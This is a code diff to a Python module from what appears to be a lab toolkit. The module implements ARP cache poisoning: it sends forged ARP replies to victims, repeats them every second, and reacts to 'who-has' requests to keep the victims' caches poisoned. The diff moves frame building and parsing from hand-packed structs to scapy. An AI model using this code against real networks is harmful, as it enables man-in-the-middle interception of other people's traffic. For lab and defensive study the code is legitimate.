@@ -13,19 +13,12 @@ import threading
 import time
 from collections.abc import Callable, Iterator
 from contextlib import suppress
-from struct import Struct
 
 from labkit.errors import LabError
 
 ARP_FRAMES = 0x0806
 """ETH_P_ARP of <linux/if_ether.h>."""
-_ARP = Struct("!6s6sHHHBBH6s4s6s4s")
-"""An Ethernet frame with an ARP packet: target, source and `ARP_FRAMES`; the kinds of both addresses and their bytes;
-the operation; the MAC and the IP address of the sender, and those of the host that is asked."""
-_ETHERNET_AND_IPV4 = (1, 0x0800, 6, 4)
-_REQUEST, _REPLY = 1, 2
-"""The operations."""
-_BROADCAST, _UNKNOWN = "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00"
+_BROADCAST = "ff:ff:ff:ff:ff:ff"
 _AGAIN = 1.0
 """Seconds after which the false claims are sent again; a victim asks by itself when an entry is 30 s old."""
 _PATIENCE = 3.0
@@ -104,7 +97,7 @@ class Poisoning:
             for ip in missing:
                 self._socket.send(questions[ip])
             while missing - answers.keys() and select.select([self._socket], [], [], _RETRY)[0]:
-                answers |= {ip: mac for operation, mac, ip in self._received() if operation == _REPLY}
+                answers |= {ip: mac for operation, mac, ip in self._received() if operation == "is-at"}
         return answers
 
     def _run(self) -> None:
@@ -114,21 +107,20 @@ class Poisoning:
                 ready, _, _ = select.select([self._socket, self._alarm], [], [], _AGAIN)
                 if self._alarm in ready:
                     return
-                asked = any(operation == _REQUEST for operation, _, _ in self._received())
+                asked = any(operation == "who-has" for operation, _, _ in self._received())
                 if asked or not ready:
                     for victim, about in self._pairs:
                         self._socket.send(self._claim(victim, about, self._mac))
 
-    def _received(self) -> Iterator[tuple[int, str, str]]:
+    def _received(self) -> Iterator[tuple[str, str, str]]:
         """(operation, MAC address, IP address) of each ARP packet that other hosts have sent since the last call."""
+        from scapy.layers.l2 import ARP, Ether
+
         with suppress(BlockingIOError):
             while True:
-                frame = self._socket.recv(_LARGEST, socket.MSG_DONTWAIT)
-                if len(frame) < _ARP.size:
-                    continue
-                _, _, _, *kinds, operation, mac, ip, _, _ = _ARP.unpack_from(frame)
-                if tuple(kinds) == _ETHERNET_AND_IPV4 and mac.hex(":") != self._mac:
-                    yield operation, mac.hex(":"), socket.inet_ntoa(ip)
+                packet = Ether(self._socket.recv(_LARGEST, socket.MSG_DONTWAIT))
+                if ARP in packet and packet[ARP].hwsrc != self._mac:
+                    yield packet.sprintf("%ARP.op%"), packet[ARP].hwsrc, packet[ARP].psrc
 
 
 class NeighbourEntries:
@@ -165,10 +157,6 @@ class NeighbourEntries:
 
 def _request(source: str, target: str, mac: str, ip: str, wanted: str) -> bytes:
     """The frame of an ARP request from `source` to `target`, in which `mac` has `ip` and asks who has `wanted`."""
-    ends = _bytes(target), _bytes(source)
-    sender, asked = (_bytes(mac), socket.inet_aton(ip)), (_bytes(_UNKNOWN), socket.inet_aton(wanted))
-    return _ARP.pack(*ends, ARP_FRAMES, *_ETHERNET_AND_IPV4, _REQUEST, *sender, *asked)
+    from scapy.layers.l2 import ARP, Ether
 
-
-def _bytes(mac: str) -> bytes:
-    return bytes.fromhex(mac.replace(":", ""))
+    return bytes(Ether(src=source, dst=target) / ARP(op="who-has", hwsrc=mac, psrc=ip, pdst=wanted))
